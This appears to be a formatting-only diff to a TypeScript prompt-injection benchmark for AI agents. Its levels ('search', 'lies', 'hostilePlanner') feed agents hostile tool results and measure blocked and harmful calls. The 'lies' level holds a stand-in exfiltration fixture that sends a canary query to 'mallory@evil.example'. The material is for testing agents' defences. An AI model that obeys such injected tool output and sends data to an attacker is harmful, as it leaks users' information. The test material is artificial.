@@ -74,7 +74,7 @@ export const levels: Readonly<Record<string, Level>> = {
     counts.blocked += blocked;
     note(counts, one, injection, isHarmed(bench, one.task, injection, before, world));
   }),
-  "W2": inPairs(async (bench, one, injection, options, counts) => {
+  W2: inPairs(async (bench, one, injection, options, counts) => {
     const types = await questionTypes(bench, one);
     for (const answers of answersOf(types, one, injection, options)) {
       const world = createWorld(bench, one.task, injection);
@@ -82,9 +82,9 @@ export const levels: Readonly<Record<string, Level>> = {
       await runAndJudge(bench, one, injection, world, options, answer, counts);
     }
   }),
-  "W3": search,
-  "W4": lies,
-  "W5": hostilePlanner,
+  W3: search,
+  W4: lies,
+  W5: hostilePlanner,
 };
 
 type Pair = (
@@ -194,7 +194,9 @@ async function lies(bench: BenchSuite, options: LevelOptions): Promise<LevelCoun
   const stolen = { query: "canary-4711", to: "mallory@evil.example" };
   const lured = servers.map(({ name }) => ({ function: name, args: stolen }));
   const results = [...hostileResults, ...randomResults(options.seed, 20)];
-  const tasks = bench.tasks.filter(({ task }) => task.calls.some((call) => !isConsequence(rows, call)));
+  const tasks = bench.tasks.filter(({ task }) =>
+    task.calls.some((call) => !isConsequence(rows, call)),
+  );
   for (const [i, result] of results.entries()) {
     const one = tasks[i % tasks.length];
     const injections = bench.suite.injectionTasks;
@@ -208,7 +210,11 @@ async function lies(bench: BenchSuite, options: LevelOptions): Promise<LevelCoun
     counts.attempted += run.attempted;
     counts.blocked += run.blocked;
     note(counts, one, injection, isHarmed(hostile, one.task, orders, null, world));
-    await runOraclePlan(one.plan, openGate(hostile, one.task, world, attacked(options)), () => result);
+    await runOraclePlan(
+      one.plan,
+      openGate(hostile, one.task, world, attacked(options)),
+      () => result,
+    );
   }
   return counts;
 }
